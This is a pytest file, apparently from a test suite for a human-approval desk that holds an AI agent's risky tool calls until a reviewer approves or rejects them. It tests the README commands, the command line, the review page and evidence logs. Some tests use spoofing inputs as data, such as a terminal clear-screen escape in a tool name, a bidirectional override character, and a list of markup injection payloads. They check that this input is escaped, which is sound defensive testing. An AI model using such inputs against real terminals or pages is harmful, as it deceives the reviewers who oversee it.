    assert until(lambda: "reason: noj" in page.text("#request-r-2 .said"))
    keys("?")
    assert "Enter rejects" in page.text("#keys")
    keys("/", "j")
    assert page.run("return document.activeElement.value") == "j"
    assert page.run("const s = getComputedStyle(document.activeElement); "
                    "return s.outlineStyle") == "solid"
    assert desk.state("r-0")["status"] == "waiting"


# ================================= Evidence ================================
# `demo`, `verify` and the README, as the commands they are.

LINK = r"http://reviewer:([\w-]{43})@127\.0\.0\.1:(\d+)/"


def readme_parts() -> tuple[list[str], list[str]]:
    """README.md's words in `code`, and its blocks of code."""
    parts = (HERE / "README.md").read_text().split("```")
    return re.findall("`([^`]+)`", "".join(parts[::2])), parts[1::2]


def test_the_readme_names_real_commands():
    """Each command that README.md prints is one that hitl.py takes, and it
    names them all."""
    inline, blocks = readme_parts()
    names = set(commands())
    assert names <= set(inline)
    lines = [re.sub(r"^(\$ )?python3 hitl\.py ", "$ ", line)
             for line in inline + "\n".join(blocks).splitlines()]
    lines += [f"$ {code}" for code in inline
              if code.split()[0] in names and " " in code]
    asked = [line for line in lines if re.match(r"\$ (?!python3)", line)]
    assert len(asked) > 15
    for line in asked:
        words = shlex.split(re.sub(" >>? .*", "", line).replace(
            "AGENT", "claude"), comments=True)
        given = hitl.command_line().parse_args(words[1:])
        assert given.version or given.command == words[1]


def test_the_readme_runs(tmp_path):
    """The lines of README.md run as printed, by a shell in a folder that
    holds only hitl.py, and leave what they say they write. verify compares
    each observation of the guide's verification with the expected one, and
    writes the evidence so that it can be repeated."""
    if not all(map(shutil.which, ("sh", "curl", "sqlite3"))):
        pytest.skip("the README's lines need sh, curl and sqlite3")
    (tmp_path / "tmp").mkdir()
    shutil.copy(FILE, tmp_path)
    environ = {"PYTHON": sys.executable, "TMPDIR": str(tmp_path / "tmp"),
               "HITL_REVIEWER_TOKEN": REVIEWER_TOKEN}

    def argv(line: str) -> list[str]:
        return ["sh", "-c", re.sub(
            "^python3", 'exec "$PYTHON" -W error', line.strip())]

    def run(line: str, *expected: str) -> str:
        done = command(argv=argv(line), folder=tmp_path, **environ)
        assert done.returncode == 0, (line, done)
        assert all(words in done.stdout for words in expected), done.stdout
        return done.stdout
    inline, blocks = readme_parts()
    (init, check, serve), (ask, approve, look_at) = (
        next(block.splitlines()[1:] for block in blocks if word in block)
        for word in ("hitl.py init", "curl -u"))
    for line in ("python3 hitl.py verify", "python3 hitl.py log --verify"):
        assert line in inline
    verified = in_background(run, "python3 hitl.py verify")
    run(init, "next: python3 hitl.py serve")
    run(check, "delete_users waits for a person")
    rules = tmp_path / "checkpoints.toml"   # no fixed port: any free one
    rules.write_text(rules.read_text().replace("# port = 8765",
                                               "port = 0"))
    with Running(*argv(serve), folder=tmp_path, **environ) as desk:
        url = environ["HITL_SERVER_URL"] = desk.said("(http://127.*)/")[1]
        run(ask.replace("http://127.0.0.1:8765", url), '"status": "waiting"')
        run(approve.replace("http://127.0.0.1:8765", url),
            '"status": "approved"')
        run("python3 hitl.py list --all", "approved  r-1 ")
        run(look_at, "r-1|approved|reviewer:reviewer")
        run("python3 hitl.py log --verify", ": whole")
        assert desk.stop() == 0
    for words in ("[r-1] by agent:unauthenticated", "[r-1] by reviewer:reviewer"):
        assert words in desk.text
    said = verified()
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "checkpoints.toml", "hitl-evidence.json", "hitl.db", "hitl.db.lock",
        "hitl.py", "tmp"]
    assert not list((tmp_path / "tmp").iterdir()), "it leaves nothing behind"
    evidence = json.loads((tmp_path / "hitl-evidence.json").read_text())
    assert evidence["verified"] is True and evidence["model"] == "none"
    assert evidence["hitl.py sha256"] == hitl.file_sha256(FILE)
    assert shlex.split(evidence["command"])[::2] == [
        evidence["executable"], "verify"]
    assert [re.sub(r" \([0-9.]+ s\)", "", finding["step"])
            for finding in evidence["findings"]] == [
        "trigger delete_records", "look at the page", "click Approve",
        "look at the records", "click Reject", "read the log",
        "look at the records", "wait (time-out set to 1.0 s here)"]
    for finding in evidence["findings"]:
        assert finding["holds"] and finding["expected"]
        assert (f"ok   {finding['step']}\n     expected {finding['expected']}\n"
                f"     observed {finding['observed']}\n") in said
    for name in ("command", "python", "sqlite", "configuration sha256",
                 "database", "server"):
        assert re.search(f"^{name} +{re.escape(evidence[name])}$", said, re.M)
    assert "CollaborationError: rejected" in str(evidence["log"])


@pytest.mark.parametrize("terminal, ending", (
    (False, "stopped by CollaborationError: rejected by terminal"),
    (True, "approved, 2 records deleted")))
def test_demo(tmp_path, terminal, ending):
    """demo: a person decides by typing a or r, or on the page; on a terminal
    it stays open until Ctrl-C. It leaves nothing behind."""
    ours, theirs = pty.openpty() if terminal else os.pipe()[::-1]
    with Running(*HITL, "demo", folder=tmp_path, stdin=theirs,
                 TMPDIR=str(tmp_path), HITL_AGENT_TOKEN=AGENT_TOKEN) as demo:
        link = demo.said(LINK)
        if terminal:
            me = hitl.Client(f"http://127.0.0.1:{link[2]}",
                             hitl.basic("eva", link[1]))
            row, = until(lambda: me.exchange("GET", "/pending", seconds=10
                                             ).body["waiting"])
            me.exchange("POST", f"/approve/{row['request_id']}",
                        {"decision": "approved"}, seconds=10)
        else:
            os.write(ours, b"?\nr\n")
            assert demo.said("type a to approve, r to reject")
        assert demo.said(f"agent: {ending}")
        if terminal:
            assert demo.said(".*Ctrl-C to end.")
            demo.process.send_signal(signal.SIGINT)
        assert demo.process.wait(20) == (130 if terminal else 0)
        assert ("'ben'" in demo.said("records now: .*")[0]) is not terminal
    os.close(ours)
    os.close(theirs)
    assert list(tmp_path.iterdir()) == []


# =============================== Command line ==============================
# Each command as main() runs it, against a real desk; on a real terminal
# where it asks.

def test_list_show_approve_reject(desk):
    """list and show print what waits; approve and reject decide, and take a
    shortened id while it is unique; --json is for programs; what a terminal
    cannot print is escaped."""
    long_id = "abd-" + "d" * 36
    desk.post("abc-1", **FULL)
    desk.post(long_id, action_description="Send \u202e a\nletter")
    assert [re.sub(r" +[0-9]+ s +", " ", line) for line in
            typed(desk, "list").out.splitlines()] == [
        f"waiting   abc-1 {'billing':20} Delete users where id = 3",
        f"waiting   abd-dddd {'-':20} Send \u27e6U+202E\u27e7 a \u21b5 letter"]
    assert [len(line) for line in typed(desk, "list", COLUMNS="60"
                                        ).out.splitlines()] == [59, 59]
    assert "Send \\u27e6U+202E" in typed(desk, "list", encoding="ascii").out
    shown = typed(desk, "show", "abc").out
    for words in ("waiting   Delete users where id = 3\n",
                  "runs exactly this: delete_records\n",
                  '    table        "users"\n', " agent:unauthenticated\n",
                  '    | {"task": "clean up"}\n',
                  "nobody waits for it now"):
        assert words in shown
    there = json.loads(typed(desk, "show", "abc-1", "--json").out)
    assert (there["arguments"], there["agent_context"]) == (
        {"table": "users"}, {"task": "clean up"})
    assert typed(desk, "approve", "ab") == (
        2, "", 'hitl: error: "ab" is the beginning of several request_ids\n'
        f"hitl: hint: write more of it: abc-1, {long_id}\n")
    desk.post("abc")                    # an agent chose the beginning
    for verb in ("approve", "reject"):
        assert typed(desk, verb, "abc").err == (
            'hitl: error: "abc" is the beginning of several request_ids\n'
            'hitl: hint: write more of it: abc-1; "abc" itself can be '
            "decided on the page\n")
    assert "abc-1" not in typed(desk, "show", "abc").out
    desk.decide("abc", "rejected")
    assert typed(desk, "approve", "abc-").out == "approved abc-1\n"
    done = typed(desk, "reject", "abd", "--reason", "use e-mail", "--json")
    assert json.loads(done.out) == (there := desk.state(long_id))
    assert (there["status"], there["decided_by"], there["reason"]) == (
        "rejected", "reviewer:ana", "use e-mail")
    assert typed(desk, "list").out == "nothing waits\n"
    rows = json.loads(typed(desk, "list", "--all", "--json").out)
    assert [row["request_id"] for row in rows] == [long_id, "abc-1", "abc"]
    done = typed(desk, "approve", long_id)
    assert done.status == 1 and done.err.startswith(
        "hitl: error: this request was rejected by ana at ")


def test_what_is_alike_is_told_apart(desk):
    """list has as much of each id as tells it apart; standing has the bounds
    of each standing decision, and why it was made."""
    for name in ("delete-users-1", "delete-users-2"):
        desk.post(name, session="s", **FULL)
    for line, name in zip(typed(desk, "list").out.splitlines(), "12", strict=True):
        assert line.startswith(f"waiting   delete-users-{name} ")
    assert desk.decide("delete-users-1", reason="go", remember={
        "seconds": 3600, "uses": 10}).status == 200
    assert re.fullmatch("1 approved: the same call as delete-users-1, by ana since "
                        r"\S+Z until \S+Z, 0 of 10 uses: go\n",
                        typed(desk, "standing").out)


def test_show_says_what_was_changed(make_desk, make_gate):
    """show has the arguments that a reviewer changed as they will run, and
    says what was changed by whom."""
    desk = make_desk(rules=make_gate(rules=EDITABLE).rules)
    digest = desk.post(**FULL, edits=True).body["digest"]
    changed = FULL["arguments"] | {"table": "pets"}
    assert desk.decide("r-1", digest=digest, arguments=changed).status == 200
    shown = typed(desk, "show", "r-1").out
    assert '    table        "pets"\n' in shown
    assert '    (edited)     changed by ana: {table: "users" -> "pets"}\n' in shown


def test_check_replay(desk, tmp_path):
    """check --replay says what today's rules would do with each stored call:
    the same, no longer wait, deny it, hold it by another checkpoint."""
    for name, tool, was in (
            ("a", "delete_rows", "delete-records"), ("b", None, None),
            ("c", "read_rows", "delete-records"), ("d", "drop_rows", "drop"),
            ("e", "delete_all", "all"), ("f", "purge", "delete-records"),
            ("g", "purge", "gone"), ("h", "delete_rows", None)):
        why = {"why": "the code names it"} if tool == "purge" else {}
        fields = {"tool": tool, "arguments": {}, "checkpoint_id": was} | why
        assert desk.post(name, **{k: v for k, v in fields.items()
                                  if tool and v is not None}).status == 201
    rules = tmp_path / "rules.toml"
    rules.write_text(RULES + RULES.partition("[[")[2].join(("[[", "")).replace(
        "delete", "drop") + 'effect = "deny"\n')
    words = ("check", "--replay", "--config", str(rules))
    assert typed(desk, *words).out.splitlines() == [
        "8 calls: 4 as before, 2 would no longer wait, 1 denied, "
        "1 by another checkpoint",
        "  would no longer wait: c read_rows, delete-records -> unmatched",
        "  denied: d drop_rows, drop -> drop-records",
        "  by another checkpoint: e delete_all, all -> delete-records",
        "  would no longer wait: g purge, gone -> unmatched"]
    assert typed(desk, *words, terminal=True).err == "0 calls\r"
    told = json.loads(typed(desk, *words, "--json").out)
    assert (told["calls"], told["denied"], told["changed"][1]) == (8, 1, {
        "request_id": "d", "tool": "drop_rows", "was": "drop",
        "now": "drop-records", "became": "denied"})


def test_no_line_of_show_imitates_another(desk):
    """A block is behind bars, what is wrapped behind a plus, and a name that
    could be read as either is in quotes. A long description is there in full;
    without a context none is shown."""
    desk.post(action_description="a" * 130, agent_context=None,
              tool="send", arguments={
        "text": "one\nend of text\n", "| two": "x", "end of text": "y",
        "long": "z" * 70, "wide": "\u6f22" * 40})
    shown = typed(desk, "show", "r-1", COLUMNS="60").out.splitlines()
    assert shown[1:4] == ["    in full      " + "a" * 36,
                          "    + " + "a" * 53, "    + " + "a" * 41]
    assert not [line for line in shown if "context" in line]
    start = shown.index("    text: text, 16 bytes, 3 lines")
    assert shown[start + 1:start + 11] == [
        "    | one", "    | end of text", "    | ", "    end of text",
        '    "| two"      "x"', '    "end of text" "y"',
        '    long         "' + "z" * 35, "    + " + "z" * 35 + '"',
        '    wide         "\u27e6' + "\u6f22" * 17,
        "    + " + "\u6f22" * 23 + '\u27e7"']


SLIPS = (
    (2, "no reviewer token", "set HITL_REVIEWER_TOKEN", "list",
     {"HITL_REVIEWER_TOKEN": ""}),
    (1, "does not know this name and token", "HITL_REVIEWER", "list",
     {"HITL_REVIEWER_TOKEN": "wrong" * 5}),
    (4, f"no answer from {SILENT}", "is it running?", "list",
     {"HITL_SERVER_URL": SILENT}),
    (4, f"no answer from {SILENT}", "is it running?",
     f"approve r-1 --server-url {SILENT}", {}),
    (1, 'there is no request "zz"', "check the id", "show zz", {}),
    (2, "/none: no such file", "beside hitl.py", "list --config /none", {}),
    (2, '"a b" is not a request_id', "list --all", "show 'a b'", {}),
    (2, '"\xe9" is not a request_id', "list --all", "show \xe9", {}),
    (2, '"" is not a request_id', "list --all", "approve '' --yes", {}),
    (2, "HITL_REVIEWER_TOKEN is shorter", "a good one: ", "serve --port 0",
     {"HITL_REVIEWER_TOKEN": "short"}),
    (2, "same token", "a good one for the agent: ", "serve --port 0",
     {"HITL_AGENT_TOKEN": REVIEWER_TOKEN}),
    (2, "65535", "", "serve --port 99999", {}),
    (2, "cannot listen on 127.0.0.1:", "try --port 0",
     "serve --port PORT --database x.db", {}),
    (2, "is a folder", "name a file", "serve --port 0 --database .", {}),
    (2, "a printable name without a colon", "", "token a:b", {}),
    (2, "no such database", "--database", "log --database none.db", {}),
    (2, "no such database", "--database",
     "check --replay --database none.db --config rules.toml", {}),
    (2, "no [[notify]] in it", "README.md", "notify --test --config rules.toml",
     {}),
    (2, "--head must be a SHA-256 in hex", "serve prints", "log --head x", {}),
    (2, "/none/x: No such file or directory", "", "init --config none/x", {}),
    (2, "no [[agent]] can be called", "agents without a name",
     "serve --port 0 --config agents.toml", {}),
    (2, "No such file or directory", "choose another file with --output",
     "verify --output none/e.json", {}),
    (2, "JSON of the arguments, like '{\"table\": \"users\"}': this is not an", "",
     "check x [] --config rules.toml", {}),
    (2, "invalid choice: 'nope'", "", "nope", {}),
    (2, "unrecognized arguments: --none", "", "hook --none", {}),
    (2, "arguments are required: id", "", "show", {}))


def test_what_goes_wrong_has_its_status(desk):
    """Exit status 1 refused, 2 usage or configuration, 4 unreachable, each
    with what is wrong and, where there is one, the cure; never a cure for a
    hook, whose model would read it."""
    (desk.folder / "rules.toml").write_text(RULES)
    (desk.folder / "agents.toml").write_text(
        f'{RULES}\n[[agent]]\nname = "token"\ntoken_sha256 = "{"a" * 64}"\n')
    desk.post()
    for status, error, hint, line, environ in SLIPS:
        words = shlex.split(line.replace("PORT", str(desk.port)))
        done = typed(desk, *words, **environ)
        assert (done.status, done.out) == (status, ""), line
        first, _, cure = done.err.partition("hitl: hint: ")
        assert first.startswith("hitl: error: "), done.err
        assert error in first and hint in cure, done.err
        assert not (cure and line.startswith("hook")), done.err
        assert desk.state("r-1")["status"] == "waiting", line


def commands():
    """The parser of each command, by name."""
    actions = hitl.command_line()._actions
    return next(action.choices for action in actions
                if isinstance(action.choices, dict))


def test_help_is_whole(make_desk):
    """A command's help says what it does, explains every flag and has an
    example, and the example runs as printed."""
    desk = make_desk()
    assert typed(desk, "--version").out == (
        f"hitl.py {hitl.__version__} sha256 {hitl.file_sha256(FILE)}\n")
    overview = typed(desk, "--help").out
    assert typed(desk) == (2, overview, "")
    for name, parser in commands().items():
        status, text, _ = typed(desk, name, "--help")
        does = getattr(hitl, f"cmd_{name}").__doc__
        assert status == 0 and does in text
        assert does in " ".join(overview.split())
        assert all(action.help for action in parser._actions), name
        example = re.search("example: python3 hitl.py ([^>\n]+)", text)[1]
        assert shlex.split(example)[0] == name
        if name in ("serve", "init", "lift", "run", "hook", "mcp", "demo",
                    "verify"):
            continue                            # other tests run these
        desk = make_desk()
        desk.post("1f0c-2")
        (desk.folder / "checkpoints.toml").write_text(
            RULES + notify(command=[sys.executable, "-c", "1"]))
        done = typed(desk, *shlex.split(example))
        assert done.status == 0, (example, done)


@pytest.mark.parametrize("asks, answer, status, state", (
    ("approve it[?] y/N ", "y\n", 0, "approved"),
    ("approve it[?] y/N ", "\n", 1, "waiting"),
    ("approve it[?] y/N ", "yikes\n", 1, "waiting"),
    ("approve it[?] y/N ", "\x04", 130, "waiting"),
    ("reviewer's token .*: ", REVIEWER_TOKEN + "\n", 0, "approved")))
def test_approve_asks_on_a_terminal(desk, asks, answer, status, state):
    """On a terminal approve shows the request and asks y/N; --yes does not
    ask; a missing token is asked for without echo."""
    desk.post(**FULL | {"tool": "delete \x1b[2J users"})
    secret = answer.startswith(REVIEWER_TOKEN)
    ours, theirs = pty.openpty()
    os.set_blocking(ours, False)
    with Running(*HITL, "approve", "r-1", *["--yes"] * secret,
                 folder=desk.folder, stdin=theirs, HITL_SERVER_URL=desk.url,
                 HITL_REVIEWER_TOKEN="" if secret else REVIEWER_TOKEN) as it:
        assert it.said(asks)
        os.write(ours, answer.encode())
        assert it.process.wait(20) == status
    text = it.text
    echo = b""
    with contextlib.suppress(BlockingIOError):
        echo = os.read(ours, 1 << 16)
    os.close(ours)
    os.close(theirs)
    assert desk.state("r-1")["status"] == state
    assert ("y/N" in text) is not secret
    assert REVIEWER_TOKEN not in text + echo.decode()
    if not secret:
        assert re.search(r'table +"users"(?s:.)*approve it[?] y/N', text)
        assert "\u27e6U+001B\u27e7[2J" in text and "\x1b[2J" not in text


def test_a_printed_token_signs_in(make_desk, make_rules, tmp_path):
    """token NAME prints a token and the lines that make it known; with them
    that reviewer, and no other name, signs in."""
    house = make_desk()
    tokens, rules = {}, RULES
    for name in ("ana", "Zo\xeb M\xfcller", 'O"Hara \\ Co', "\U0001f600"):
        printed = typed(house, "token", name)
        tokens[name] = re.search("shown once: (.+)", printed.err)[1]
        assert tokens[name] not in printed.out
        rules += printed.out
    path = make_rules(rules).path
    desk = make_desk(named=hitl.load_configuration(path).reviewers)
    for name, token in tokens.items():
        assert desk.reviewer(name, token).exchange(
            "GET", "/pending", seconds=10).status == 200, name
    assert desk.reviewer("ana", token).exchange(
        "GET", "/pending", seconds=10).status == 401


# ================================ Promise 7 ================================

def test_promise_7_nothing_anybody_writes_is_markup(desk):
    """Whatever an agent or a reviewer writes, in whatever field, the tags
    and attributes of every page stay a clean one's, and the reader sees what
    was written, to the letter."""
    def story(name: str, text: str) -> list[list]:
        """The tags of the four pages that this text comes to stand on."""
        assert desk.post(name, **everywhere(text)).status == 201
        home, review = pages_of(desk, name)
        for page in home, review:
            seen = page.cards[name]["text"]
            assert seen.count(text) >= 8, text
            assert seen.count(json.dumps(text)[1:-1]) >= 2, text
        who = text.replace(":", ";")
        assert clicked(desk, name, "approved", who, text)[0] == 303
        desk.agent().exchange("POST", f"/claim/{name}", {
            "digest": desk.state(name)["digest"], "claim": "c"}, seconds=10)
        desk.agent().exchange("POST", f"/outcome/{name}", {
            "claim": "c", "outcome": "failed", "text": text}, seconds=10)
        done, history = (Page(desk.page(path)) for path in (
            f"/review/{name}", "/history"))
        for page in done, history:
            assert who in page.text and f"failed: {text}" in page.text
        newest = Page(re.search("<li .*?</li>", history.source, re.DOTALL)[0])
        waiting = Page(home.source.partition('<section id="reviewed"')[0]
                       + "</main></body></html>")
        return [page.tags for page in (waiting, review, done, newest)]
    clean = story("clean", "clean text")
    for number, payload in enumerate(POLYGLOTS):
        assert story(f"p-{number}", payload) == clean, payload


# ================================ The story ================================

@needs_browser
def test_the_whole_trip(tmp_path, make_gate, chromium):
    """serve, a gate that waits, the link as printed, the description on the
    page, a click, and within 5 s the tool ran, or CollaborationError says
    who refused and why."""
    def logged() -> str:
        return str([entry["message"] for entry in chromium.ask(
            "POST", chromium.session + "/se/log", {"type": "browser"})])
    served, ran = Served(tmp_path, HITL_REVIEWER_TOKEN="", terminal=True), []
    try:
        gate = make_gate(served)
        assert re.fullmatch(LINK, served.link)
        logged()
        for button, words in (("approve", "approved"),
                              ("reject", "rejected")):
            result = in_background(gate.call, "delete_records", CALL,
                                   lambda **given: ran.append(given) or 3)
            assert until(lambda: served.lines[-1:]
                         and " submitted " in served.lines[-1])
            chromium.open(served.link)
            assert chromium.text(".headline") == "Delete users where id = 3"
            assert 'condition\n"id = 3"' in chromium.text(".exact")
            assert len(ran) == (button == "reject")
            if button == "reject":
                chromium.type("textarea", "use the staging table")
            start = time.monotonic()
            assert alive(chromium)
            chromium.click("." + button)
            if button == "approve":
                assert result() == 3 and ran == [CALL]
            else:
                with pytest.raises(hitl.CollaborationError) as error:
                    result()
                assert type(error.value) is hitl.CollaborationError
                assert str(error.value) == (
                    "rejected by reviewer: use the staging table")
                assert ran == [CALL]
            assert time.monotonic() - start < 5
            assert until(
                lambda words=words: words in chromium.text(".card .said"))
        assert "Content Security" not in logged()
        chromium.run("document.body.setAttribute('style', 'color: red')")
        assert "Content Security" in logged(), "one would have been seen"
    finally:
        code = served.stop()
    assert code == 0
